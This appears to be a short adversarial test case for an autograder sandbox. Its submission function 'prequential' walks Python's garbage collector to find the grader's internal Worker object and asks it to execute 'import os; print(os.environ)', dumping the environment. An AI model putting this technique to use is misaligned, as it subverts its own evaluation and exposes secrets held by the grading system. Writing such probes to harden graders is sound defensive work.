# /// attack
# answer = "prequential"
# says = "process ended"
# ///
"""Ask the judge to run a cell, and for its names."""

import gc

from autograder.protocol.messages import Op
from autograder.protocol.worker import Worker


def prequential(make_model, batches, *, label_delay=0, classes=(0, 1)):
    worker = next(thing for thing in gc.get_objects() if type(thing) is Worker)
    print("WON:", worker.request(Op.EXECUTE, 0, "evil", "import os; print(os.environ)"))
